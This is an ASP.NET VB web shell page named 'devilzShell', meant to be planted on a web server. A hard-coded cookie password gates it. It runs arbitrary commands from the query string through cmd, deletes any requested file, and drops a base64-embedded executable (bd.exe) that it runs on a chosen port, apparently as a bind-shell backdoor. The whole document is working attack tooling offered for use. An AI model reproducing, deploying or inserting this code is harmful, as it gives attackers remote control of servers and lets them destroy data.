<%
'# devilzShell <[aspx]> style page: VB.NET, one file
%>
<%@ Page Language="VB" Debug="false" trace="false" validateRequest="false" EnableViewStateMac="false" %>
<%@ import Namespace="System.IO" %>
<%@ import Namespace="System.Diagnostics" %>
<script runat="server">
    Dim shell_name As String = "devilzShell"
    Dim shell_password As String = "devilzc0der"
    Dim wBind As String = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" & _
    "AAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1v" & _
    "ZGUuDQ0KJAAAAAAAAABQRQAApU3KGCUwux1tEyze1iN7LtkeP3IfyxlxF0SU1kk8nVw0YL4xIB5p" & _
    "/tqg7ui5mX9cfCmZ/a/lkyU81lSvTfrXFCegrrP+6SMvivIhH57kkcWxC+y1Vjv8Hm+TQn7LyP4p" & _
    "VeXNjkbcjtS3wnZNKlpNdncG+F2GkAJK1r2jQBvpyMvMyTX2zR9hImrhUziuGjQATTO6DSRqwEyB" & _
    "sbryPjv57vX3nytJNK+H9VILablLDZguhbtVtnKocmN6zXRm/LYODo/xhGOw5LK6KXA0dPBkrGj3" & _
    "APWwKz3GZvRb3qosyu3NK1FXQQ5N7krys09DCgc0R95jbA6AbJV7poTWQx+16tdCTQnhXQJMWEjy" & _
    "PR+m9zYdf2GNFTLnDiDipmaN5/R+hGflRtU+yOKhJXvbJWybPk+7SYFG73Awy/lTclLczq3XZLaj" & _
    "L7sJrerhCcSplyA5dTUrh4sUXIpC2ITPTP2nLY4dXdkliQgthSpxIoc+6AWt1YlCFno4UoYZXGef" & _
    "nGmU5FuKsQmAEgcJYfN95Dbd/cmdbnWvZUfPsRtCBySC3FMcK8OQfJYX615QieQBhrqopX0Rnm+2" & _
    "XQCrwyrzjmZ/Ai6HLUnMFckLmZt3K0/Hpv1MkUoW20cIdSsPFUS4NcDnGQl9+ocB6SMvIfKBJod4" & _
    "aXbr/MMn9ZMXZSdLqYKbRAb2H/iJMm/6lJLt7u48Zp8r8giU6ifmicZrayYuSIa4Q485unb++MkM" & _
    "UQH75s+aSNWwwKE9qQCmrcs9ZAaUgb4hyccnuNuMGI80GpJMf4jfoWG/2w7MaCkZ0uZGkvgZQVfx" & _
    "1K+QmIKFz3qa98k9VVImav5w56rm2kdifC5Zry6jeryEZwrTxNNrwIqtH/+OuEBuL4p/xMzk3Z8L" & _
    "QRDZ8voAJcjv5X83ck9NN+orFABAdxObQYDfOTIkmWLGhQ=="

    Function ekse(ByVal cmd As String, ByVal cwd As String) As String
        Dim psi As New ProcessStartInfo("cmd", "/c " & cmd)
        psi.WorkingDirectory = cwd
        psi.UseShellExecute = False
        psi.RedirectStandardOutput = True
        psi.RedirectStandardError = True
        Dim p As Process = Process.Start(psi)
        Return p.StandardOutput.ReadToEnd() & p.StandardError.ReadToEnd()
    End Function

    Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
        If Request.Cookies("pass") Is Nothing OrElse Request.Cookies("pass").Value <> shell_password Then Exit Sub
        Dim cwd As String = Request.QueryString("dir")
        If cwd = "" Then cwd = Server.MapPath(".")
        If Request.QueryString("cmd") <> "" Then
            resultbox.InnerHtml = "<pre>" & Server.HtmlEncode(ekse(Trim(Request.QueryString("cmd")), cwd)) & "</pre>"
        ElseIf Request.QueryString("del") <> "" Then
            File.Delete(Trim(Request.QueryString("del")))
        ElseIf Request.QueryString("bportC") <> "" Then
            Dim fpath As String = Path.Combine(cwd, "bd.exe")
            File.WriteAllBytes(fpath, Convert.FromBase64String(wBind))
            Process.Start(fpath, Request.QueryString("bportC"))
        End If
    End Sub
</script>
<html><body><div id="resultbox" runat="server"></div></body></html>
